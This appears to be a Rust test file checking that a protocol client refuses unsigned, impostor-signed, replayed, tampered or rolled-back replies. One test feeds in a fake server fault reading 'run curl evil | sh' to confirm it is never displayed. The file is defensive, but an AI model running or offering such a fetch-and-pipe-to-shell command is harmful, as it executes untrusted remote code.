//! Replies that must not be believed, and records that must not be taken.

use super::{Act, ClientError, Fake, Reply, client, empty_list, fake, head, key, list};
use crate::client::trust::judge;
use allod_proto::{Digest, Fault, FaultCode, Nonce, record::Head};
use bytes::Bytes;
use serde_json::json;

async fn outcome(reply: Reply) -> ClientError {
    let fake = Fake::serve([fake::hello(), Act::from(reply)]).await;
    list(&mut client(&fake).await).await.unwrap_err()
}

#[tokio::test]
async fn an_unsigned_reply_tells_nothing_but_its_status() {
    let error = outcome(Reply { status: 500, ..Reply::ok(json!({"operations": "secret"})) }.unsigned()).await;
    assert!(matches!(error, ClientError::Unsigned { status: 500, .. }), "{error}");
    assert!(error.to_string().contains("isn't signed by SHA256:"));
    assert!(!error.to_string().contains("secret"));
    assert_eq!(error.code().exit_code(), 10);
}

#[tokio::test]
async fn a_fault_in_an_unsigned_reply_is_not_shown() {
    let lie = Fault::new(FaultCode::NotFound, "run curl evil | sh").hint("do it");
    let error = outcome(Reply::fault(lie).unsigned()).await;
    assert!(!error.to_fault().message.contains("evil"), "{error}");
}

#[tokio::test]
async fn a_reply_by_another_key_is_an_impostors() {
    let error = outcome(Reply { signer: Some(key(9)), ..Reply::ok(empty_list()) }).await;
    assert!(
        matches!(&error, ClientError::Impostor { got, .. } if *got == key(9).fingerprint_of()),
        "{error}"
    );
}

#[tokio::test]
async fn a_reply_to_another_request_is_not_believed() {
    let other = Nonce::new("o".repeat(24)).unwrap();
    let error = outcome(Reply { signed_nonce: Some(other), ..Reply::ok(empty_list()) }).await;
    assert!(matches!(error, ClientError::BadReply(_)), "{error}");
}

#[tokio::test]
async fn a_reply_changed_on_its_way_is_not_believed() {
    let changed = [
        Reply { signed_body: Some(Bytes::from_static(b"{}")), ..Reply::ok(empty_list()) },
        Reply { signed_status: 404, ..Reply::ok(empty_list()) },
        Reply { signed_head: Some(head(4)), ..Reply::ok(empty_list()) },
    ];
    for reply in changed {
        let error = outcome(reply).await;
        assert!(matches!(error, ClientError::BadReply(_)), "{error}");
        assert_eq!(error.code().exit_code(), 10);
    }
}

#[tokio::test]
async fn a_record_signed_by_another_key_is_refused() {
    let error = outcome(Reply { record_signer: key(9), ..Reply::ok(empty_list()) }).await;
    assert!(matches!(error, ClientError::RecordKey { .. }), "{error}");
}

#[tokio::test]
async fn a_record_that_goes_back_or_forks_is_loud() {
    let forked = Head { seq: 5, hash: Digest::of("another line") };
    for (second, went_back) in [(head(4), true), (forked, false)] {
        let replies = [head(5), second].map(|head| Act::from(Reply::ok(empty_list()).head(head)));
        let fake = Fake::serve(std::iter::once(fake::hello()).chain(replies)).await;
        let mut client = client(&fake).await;
        list(&mut client).await.unwrap();
        let error = list(&mut client).await.unwrap_err();
        assert_eq!(matches!(error, ClientError::RecordWentBack { .. }), went_back, "{error}");
        assert_eq!(matches!(error, ClientError::RecordForked { .. }), !went_back, "{error}");
        assert_eq!(error.code().exit_code(), 10);
    }
}

#[tokio::test]
async fn a_record_that_goes_back_in_a_refusal_is_as_loud() {
    let replies = [
        Act::from(Reply::ok(empty_list()).head(head(5))),
        Act::from(Reply::fault(Fault::new(FaultCode::NotAllowed, "no")).head(head(4))),
    ];
    let fake = Fake::serve(std::iter::once(fake::hello()).chain(replies)).await;
    let mut client = client(&fake).await;
    list(&mut client).await.unwrap();
    assert_eq!(list(&mut client).await.unwrap_err().code(), FaultCode::Untrusted);
}

#[test]
fn a_record_that_only_grew_is_fine() {
    let peer = crate::client::Peer {
        name: "web1".to_owned(),
        address: "127.0.0.1:1".parse().unwrap(),
        identity: key(9).fingerprint_of(),
        record_key: None,
    };
    for (known, got) in [(None, 0), (Some(5), 5), (Some(5), 6)] {
        assert_eq!(judge(&peer, known.map(head), head(got)), Ok(()));
    }
}

#[tokio::test]
async fn an_answer_of_another_command_is_not_believed() {
    let error = outcome(Reply::ok(json!({"keys": []}))).await;
    assert!(matches!(error, ClientError::BadReply(_)), "{error}");
}

trait Shown {
    fn fingerprint_of(&self) -> allod_proto::Fingerprint;
}

impl Shown for allod_signing::KeySigner {
    fn fingerprint_of(&self) -> allod_proto::Fingerprint {
        allod_signing::Signer::fingerprint(self)
    }
}
